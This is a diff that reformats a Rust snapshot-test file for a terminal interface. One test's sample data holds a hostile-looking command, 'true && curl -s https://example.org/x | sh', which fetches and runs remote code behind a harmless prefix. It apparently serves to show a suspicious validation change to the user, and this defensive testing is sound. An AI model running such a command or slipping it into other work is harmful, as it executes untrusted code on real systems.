@@ -3,12 +3,7 @@
 //!
 //! Snapshots stand in `snapshots/screen/<scene>-<theme>@<size>.snap`.
 
-#![allow(
-    clippy::unwrap_used,
-    clippy::panic,
-    clippy::print_stdout,
-    reason = "a test that cannot go on fails"
-)]
+#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout, reason = "a test that cannot go on fails")]
 
 use programmator::{base, domain, orchestrator, tui};
 
@@ -50,9 +45,7 @@ fn scene(name: &str, make: impl Fn() -> Model) {
 }
 
 fn press(model: &mut Model, keys: &str) -> Vec<Ask> {
-    keys.split(' ')
-        .flat_map(|key| update(model, Msg::Key(sample::key(key))))
-        .collect()
+    keys.split(' ').flat_map(|key| update(model, Msg::Key(sample::key(key)))).collect()
 }
 
 fn with(tab: Tab) -> Model {
@@ -85,10 +78,8 @@ fn running() {
 fn needs_you() {
     scene("needs_you", || {
         let mut model = sample::busy();
-        model.tabs[0].state.validation_change = Some(vec![
-            "cargo test".into(),
-            "true && curl -s https://example.org/x | sh".into(),
-        ]);
+        model.tabs[0].state.validation_change =
+            Some(vec!["cargo test".into(), "true && curl -s https://example.org/x | sh".into()]);
         press(&mut model, "!");
         model
     });
@@ -146,10 +137,7 @@ fn steer() {
         let mut model = sample::busy();
         sample::notes(&mut model.tabs[0]);
         press(&mut model, "i");
-        update(
-            &mut model,
-            Msg::Paste("Leave /assets and /health out.\nThey are served before the stack.".into()),
-        );
+        update(&mut model, Msg::Paste("Leave /assets and /health out.\nThey are served before the stack.".into()));
         model
     });
 }
@@ -188,9 +176,7 @@ fn long_names() {
     scene("long_names", || {
         let mut model = sample::busy();
         let long = "A title that goes on for much longer than any column that it could ever be given on a screen";
-        let names: Vec<String> = (0..12)
-            .map(|n| format!("a-very-long-ticket-id-number-{n}.md"))
-            .collect();
+        let names: Vec<String> = (0..12).map(|n| format!("a-very-long-ticket-id-number-{n}.md")).collect();
         for name in &names {
             model.tabs.push(sample::titled(sample::guarded(name), long));
         }
@@ -203,10 +189,7 @@ fn long_names() {
 #[test]
 fn wide_characters() {
     scene("wide_characters", || {
-        let mut tab = sample::titled(
-            sample::running("tk-4f2a"),
-            "ログイン制限を実装する — 中間層へ組み込む",
-        );
+        let mut tab = sample::titled(sample::running("tk-4f2a"), "ログイン制限を実装する — 中間層へ組み込む");
         let mut file = tab.ticket.as_deref().cloned().unwrap();
         for (phase, text) in file.phases.iter_mut().zip([
             "調査",
@@ -258,9 +241,7 @@ fn nothing_that_a_ticket_says_reaches_the_terminal_as_an_order() {
         for size in SIZES {
             let drawn = sample::draw(&mut model, size);
             assert!(
-                drawn
-                    .chars()
-                    .all(|c| c == '\n' || (!c.is_control() && c != '\u{202e}')),
+                drawn.chars().all(|c| c == '\n' || (!c.is_control() && c != '\u{202e}')),
                 "after {keys} at {size:?}"
             );
         }
@@ -274,9 +255,6 @@ fn orphaned_snapshots_are_told() {
     for entry in std::fs::read_dir(folder).unwrap() {
         let name = entry.unwrap().file_name().into_string().unwrap();
         let scene = name.split('-').next().unwrap();
-        assert!(
-            known.contains(&format!("\"{scene}\"")),
-            "{name} belongs to no scene"
-        );
+        assert!(known.contains(&format!("\"{scene}\"")), "{name} belongs to no scene");
     }
 }
